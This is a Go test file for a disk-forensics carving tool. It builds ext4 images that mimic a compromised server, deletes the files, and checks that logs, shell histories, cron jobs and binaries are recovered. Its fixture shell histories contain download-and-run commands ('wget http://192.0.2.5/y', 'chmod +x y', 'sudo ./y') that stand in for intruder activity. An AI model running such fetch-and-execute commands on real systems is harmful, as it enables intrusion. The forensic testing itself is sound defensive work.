package carved_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"deadbox/fs/content"
	"deadbox/fs/detect"
	"deadbox/fs/host"
	"deadbox/image/volume"
	"deadbox/timeline"
	"deadbox/timeline/carved"
)

func needs(t *testing.T, tools ...string) {
	t.Helper()
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skip(tool + " is not installed")
		}
	}
}

// newImage makes an ext4 image with the kernel's defaults; fill writes to it while
// it is mounted.
func newImage(t *testing.T, size int64, fill func(dir string)) string {
	t.Helper()
	needs(t, "mke2fs", "mount", "umount")
	image := filepath.Join(t.TempDir(), "disk.img")
	f, err := os.Create(image)
	if err == nil {
		err = f.Truncate(size)
		f.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("mke2fs", "-q", "-F", "-t", "ext4", "-b", "4096", image).CombinedOutput(); err != nil {
		t.Fatalf("mke2fs: %v: %s", err, out)
	}
	if fill == nil {
		return image
	}
	if os.Geteuid() != 0 {
		t.Skip("mounting needs root")
	}
	dir := filepath.Join(t.TempDir(), "mnt")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("mount", "-o", "loop,nobarrier", image, dir).CombinedOutput(); err != nil {
		t.Skipf("the kernel does not mount this: %v: %s", err, out)
	}
	mounted := true
	defer func() {
		if mounted {
			unix.Unmount(dir, unix.MNT_DETACH)
		}
	}()
	fill(dir)
	if out, err := exec.Command("umount", dir).CombinedOutput(); err != nil {
		t.Fatalf("umount: %v: %s", err, out)
	}
	mounted = false
	return image
}

func put(t *testing.T, dir, name string, data []byte) {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

// carve gives all records of an image, and checks that each says what stands at its place.
func carve(t *testing.T, image string, kinds ...string) []timeline.Record {
	t.Helper()
	f, err := os.Open(image)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	info, _ := f.Stat()
	fsys, err := detect.Open(f, info.Size())
	if err != nil {
		t.Fatal(err)
	}
	v := volume.Volume{Slot: "bare", Length: info.Size()}
	h, err := host.Assemble(t.Context(), []host.Source{{Image: image, Volume: v, FS: fsys}})
	if err != nil {
		t.Fatal(err)
	}
	areas, errs := carved.AreasOf(context.Background(), h.Mounts[0], f)
	for _, err := range errs {
		t.Error(err)
	}
	var out []timeline.Record
	for rec, err := range carved.Records(t.Context(), h, areas, carved.Options{Kinds: kinds}) {
		if err != nil {
			t.Error(err)
			continue
		}
		if rec.Fields["recovered"] == "" || rec.Evidence.Path != "" || rec.Evidence.Offset < 0 || rec.Evidence.Length <= 0 {
			t.Errorf("%s %q: %v, %+v", rec.Kind, rec.Summary, rec.Fields, rec.Evidence)
		}
		out = append(out, rec)
	}
	return out
}

func authLine(day, n int, what string) string {
	return fmt.Sprintf("2024-03-%02dT10:%02d:%02d.000001+00:00 web sshd[%d]: Failed password for %s from 192.0.2.%d port %d ssh2\n", day, n/60%60, n%60, 1000+n, what, n%250, 20000+n)
}

func loginRecord(n int) []byte {
	b := make([]byte, content.UtmpSize)
	binary.LittleEndian.PutUint16(b, 7)
	binary.LittleEndian.PutUint32(b[4:], uint32(1000+n))
	copy(b[8:], "pts/"+strconv.Itoa(n))
	copy(b[44:], "alice")
	copy(b[76:], "198.51.100.7")
	binary.LittleEndian.PutUint32(b[340:], uint32(1710000000+n*60))
	return b
}

const fakeKey = "-----BEGIN OPENSSH PRIVATE KEY-----\nbm90IGEga2V5IGF0IGFsbCwganVzdCB0ZXh0IGZvciBhIHRlc3Qgb2YgY2FydmluZywgd2l0\naCBhIHNlY29uZCBsaW5lIG9mIHN1Y2ggdGV4dA==\n-----END OPENSSH PRIVATE KEY-----\n"

// truth is what was deleted.
type truth struct {
	elf, db, gz, zip []byte
	auth, access     int
}

// server writes a server's files and deletes some as an intruder would.
func server(t *testing.T, dir string, fragmented bool) truth {
	var tr truth
	if fragmented {
		// Free space in holes of three blocks.
		for i := range 1200 {
			put(t, dir, fmt.Sprintf("fill/%d", i), bytes.Repeat([]byte{byte(i), 0xfe}, 6<<10))
		}
		unix.Sync()
		put(t, dir, "rest", nil)
		rest, err := os.OpenFile(filepath.Join(dir, "rest"), os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		for {
			if _, err := rest.Write(bytes.Repeat([]byte{0xfe, 1}, 64<<10)); err != nil {
				break
			}
		}
		rest.Close()
		for i := 0; i < 1200; i += 2 {
			os.Remove(filepath.Join(dir, fmt.Sprintf("fill/%d", i)))
		}
		unix.Sync()
	}
	put(t, dir, "etc/hostname", []byte("web\n"))
	put(t, dir, "etc/os-release", []byte("ID=debian\n"))
	put(t, dir, "etc/passwd", []byte("root:x:0:0:root:/root:/bin/bash\n"))
	var live, rotated, access, copied strings.Builder
	for i := range 60 {
		live.WriteString(authLine(20, i, "bob"))
	}
	for i := range 300 {
		rotated.WriteString(authLine(10, i, "carol"))
	}
	for i := range 250 {
		fmt.Fprintf(&access, "203.0.113.%d - - [10/Mar/2024:11:%02d:%02d +0000] \"GET /shop/%d HTTP/1.1\" 200 %d \"-\" \"test\"\n", i%200, i/60, i%60, i, i)
	}
	copied.WriteString(live.String())
	for i := range 5 {
		copied.WriteString(authLine(19, i, "mallory"))
	}
	tr.auth, tr.access = 300+5, 250
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	for i := range 400 {
		z.Write([]byte(authLine(1, i, "dave")))
	}
	z.Close()
	tr.gz = packed.Bytes()
	tr.auth += 400
	var logins []byte
	for i := range 40 {
		logins = append(logins, loginRecord(i)...)
	}
	tr.elf, _ = os.ReadFile("/bin/true")
	put(t, dir, "var/log/auth.log", []byte(live.String()))
	put(t, dir, "var/log/wtmp", logins[:10*content.UtmpSize])
	unix.Sync()
	names := map[string][]byte{
		"var/log/auth.log.1":           []byte(rotated.String()),
		"var/log/nginx/access.log.1":   []byte(access.String()),
		"var/log/auth.log.2.gz":        tr.gz,
		"tmp/auth.bak":                 []byte(copied.String()),
		"var/log/wtmp.1":               logins,
		"root/.bash_history":           []byte("#1710000100\nid\n#1710000110\nwget http://192.0.2.5/x.sh\n#1710000120\nfor i in 1 2\ndo echo $i\ndone\n#1710000130\nexit\n"),
		"home/eve/.bash_history":       []byte("ls -la\ncd /tmp\nwget http://192.0.2.5/y\nchmod +x y\nsudo ./y\nrm y\nhistory\nexit\n"),
		"var/www/html/shell.php":       []byte("<?php\n// prints, and does nothing else\necho 'carved';\n?>\n"),
		"tmp/run.sh":                   []byte("#!/bin/sh\nls /\ncd /\nps\nid\nw\necho carved\n"),
		"root/.ssh/id_ed25519":         []byte(fakeKey),
		"var/spool/cron/crontabs/root": []byte("*/5 * * * * /usr/bin/true carved\n@reboot /usr/bin/true again\n"),
		"var/log/dpkg.log.1":           []byte("2024-03-01 10:00:00 install tree:amd64 <none> 2.0\n2024-03-01 10:00:01 status installed tree:amd64 2.0\n"),
		"tmp/bin":                      tr.elf,
	}
	tmp := t.TempDir()
	db := filepath.Join(tmp, "x.db")
	if out, err := exec.Command("sqlite3", db, "create table t(a); insert into t select 'row '||value from generate_series(1,2000)").CombinedOutput(); err != nil {
		t.Fatalf("sqlite3: %v: %s", err, out)
	}
	tr.db, _ = os.ReadFile(db)
	names["tmp/x.db"] = tr.db
	os.WriteFile(filepath.Join(tmp, "a"), tr.elf, 0o644)
	if out, err := exec.Command("zip", "-jq", filepath.Join(tmp, "a.zip"), filepath.Join(tmp, "a")).CombinedOutput(); err != nil {
		t.Fatalf("zip: %v: %s", err, out)
	}
	tr.zip, _ = os.ReadFile(filepath.Join(tmp, "a.zip"))
	names["tmp/a.zip"] = tr.zip
	var sorted []string
	for name := range names {
		sorted = append(sorted, name)
	}
	slices.Sort(sorted)
	for _, name := range sorted {
		put(t, dir, name, names[name])
	}
	unix.Sync()
	for _, name := range sorted {
		if err := os.Remove(filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	return tr
}

func count(recs []timeline.Record, f func(*timeline.Record) bool) int {
	n := 0
	for i := range recs {
		if f(&recs[i]) {
			n++
		}
	}
	return n
}

func sum(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// checkServer compares with the truth, what can be lost at the ends of fragments aside.
func checkServer(t *testing.T, recs []timeline.Record, tr truth, lost int) {
	t.Helper()
	within := func(what string, got, want, lost int) {
		if got > want || got < want-lost {
			t.Errorf("%s: %d, want %d, or %d fewer", what, got, want, lost)
		}
	}
	field := func(name, value string) func(*timeline.Record) bool {
		return func(r *timeline.Record) bool { return r.Fields[name] == value }
	}
	failed := func(account string) int {
		return count(recs, func(r *timeline.Record) bool {
			return r.Fields["action"] == "login-failed" && r.Fields["account"] == account && len(r.Stamps) == 1 && r.Kind == timeline.KindAuth
		})
	}
	within("rotated and deleted lines", failed("carol"), 300, lost)
	within("lines of a deleted copy that the log has not", failed("mallory"), 5, min(lost, 1))
	within("lines of a packed log", failed("dave"), 400, 0)
	if n := failed("bob"); n != 0 {
		t.Errorf("%d lines that stand in the log are repeated", n)
	}
	within("requests", count(recs, func(r *timeline.Record) bool { return r.Kind == timeline.KindWebAccess && r.Fields["status"] == "200" }), tr.access, lost)
	within("logins", count(recs, func(r *timeline.Record) bool { return r.Kind == timeline.KindLogin && r.Fields["account"] == "alice" }), 30, lost)
	var commands []string
	timed := 0
	for _, r := range recs {
		if r.Kind == timeline.KindCommand {
			commands = append(commands, r.Fields["command"])
			if len(r.Stamps) > 0 && r.Stamps[0].When.Unix() >= 1710000100 && r.Stamps[0].When.Unix() <= 1710000130 {
				timed++
			}
		}
	}
	if timed != 4 || len(commands) != 4+8 || !slices.Contains(commands, "sudo ./y") {
		t.Errorf("commands: %d with a time, %q", timed, commands)
	}
	within("jobs of cron", count(recs, func(r *timeline.Record) bool {
		return r.Kind == timeline.KindCron && strings.HasPrefix(r.Fields["command"], "/usr/bin/true")
	}), 2, 0)
	within("lines of dpkg", count(recs, func(r *timeline.Record) bool { return r.Kind == timeline.KindPackageEvent }), 2, 0)
	scattered := 0
	for name, data := range map[string][]byte{"elf": tr.elf, "sqlite": tr.db, "gzip": tr.gz, "zip": tr.zip,
		"php":    []byte("<?php\n// prints, and does nothing else\necho 'carved';\n?>\n"),
		"script": []byte("#!/bin/sh\nls /\ncd /\nps\nid\nw\necho carved\n")} {
		if count(recs, func(r *timeline.Record) bool {
			return r.Fields["found"] == name && r.Fields["sha256"] == sum(data) && r.Fields["complete"] == "yes"
		}) != 1 {
			// The kernel need not write the fragments of a file in the order of the
			// disk: of those that have some, two of four may be out of order.
			if scattered++; lost == 0 || len(data) < 4096 || scattered > 2 {
				t.Errorf("%s of %d bytes is not found as it was", name, len(data))
			}
		}
	}
	if count(recs, field("found", "key")) != 1 {
		t.Error("the key is not found")
	}
	for _, r := range recs {
		for _, v := range append([]string{r.Summary}, slices.Collect(func(yield func(string) bool) {
			for _, v := range r.Fields {
				if !yield(v) {
					return
				}
			}
		})...) {
			if strings.Contains(v, "bm90IGEg") {
				t.Errorf("the text of the key is shown: %q", v)
			}
		}
	}
}

func TestDeleted(t *testing.T) {
	needs(t, "sqlite3", "zip")
	var tr truth
	image := newImage(t, 64<<20, func(dir string) { tr = server(t, dir, false) })
	recs := carve(t, image)
	checkServer(t, recs, tr, 0)
	for _, r := range carve(t, image, "utmp") {
		if r.Kind != timeline.KindLogin {
			t.Errorf("asked for logins, got %s %q", r.Kind, r.Summary)
		}
	}
	// What a record says stands where it says.
	raw, err := os.ReadFile(image)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		at := raw[r.Evidence.Offset:][:r.Evidence.Length]
		if c := r.Fields["command"]; c != "" && r.Kind == timeline.KindCommand && !bytes.Contains(at, []byte(strings.Split(c, "\n")[0])) {
			t.Errorf("command %q is not in %q", c, at)
		}
		if r.Kind == timeline.KindAuth && r.Evidence.Packed == "" && !bytes.Contains(at, []byte(r.Fields["port"])) {
			t.Errorf("%q is not in %q", r.Summary, at)
		}
		if h := r.Fields["sha256"]; h != "" && sum(at) != h {
			t.Errorf("%s: the bytes at its place have another hash", r.Summary)
		}
	}
}

func TestFragmented(t *testing.T) {
	needs(t, "sqlite3", "zip")
	// Where the kernel puts what is written is its own choice: some disks have no
	// file in pieces whose order can be told.
	const disks = 8
	for range disks {
		if fragmented(t) > 0 {
			return
		}
	}
	t.Errorf("on %d disks no file in several pieces was found", disks)
}

// fragmented makes a disk whose free space is in pieces, and gives how many
// files in several pieces were found on it.
func fragmented(t *testing.T) (pieces int) {
	var tr truth
	image := newImage(t, 64<<20, func(dir string) { tr = server(t, dir, true) })
	recs := carve(t, image)
	// A line over the end of a fragment is lost, or cut: four files of some 40 KB in pieces of 12 KB.
	checkServer(t, recs, tr, 8)
	disk, err := os.ReadFile(image)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if r.Fields["ranges"] == "" {
			continue
		}
		var whole []byte
		for _, p := range strings.Split(r.Fields["ranges"], ",") {
			var at, n int
			if _, err := fmt.Sscanf(p, "%d+%d", &at, &n); err != nil {
				t.Fatal(p, err)
			}
			whole = append(whole, disk[at:at+n]...)
		}
		if pieces++; sum(whole) != r.Fields["sha256"] {
			t.Errorf("%s: the bytes at its ranges have another hash", r.Summary)
		}
	}
	return pieces
}

func TestNothing(t *testing.T) {
	image := newImage(t, 32<<20, nil)
	for _, r := range carve(t, image) {
		t.Errorf("found on an empty file system: %s %q", r.Kind, r.Summary)
	}
}

// What stands behind a file's end in its last block is slack.
func TestSlack(t *testing.T) {
	image := newImage(t, 32<<20, func(dir string) {
		put(t, dir, "etc/os-release", []byte("ID=debian\n"))
		put(t, dir, "small", []byte("the mark of a small file"))
	})
	f, err := os.OpenFile(image, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	raw, err := os.ReadFile(image)
	if err != nil {
		t.Fatal(err)
	}
	at := bytes.Index(raw, []byte("the mark of a small file"))
	if at < 0 || at%4096 != 0 {
		t.Fatalf("the file lies at %d", at)
	}
	line := authLine(4, 7, "bob")
	if _, err := f.WriteAt([]byte(line), int64(at)+1024); err != nil {
		t.Fatal(err)
	}
	recs := carve(t, image)
	if len(recs) != 1 || recs[0].Fields["recovered"] != carved.Slack || recs[0].Evidence.Offset != int64(at)+1024 || recs[0].Fields["account"] != "bob" {
		t.Errorf("%+v", recs)
	}
}
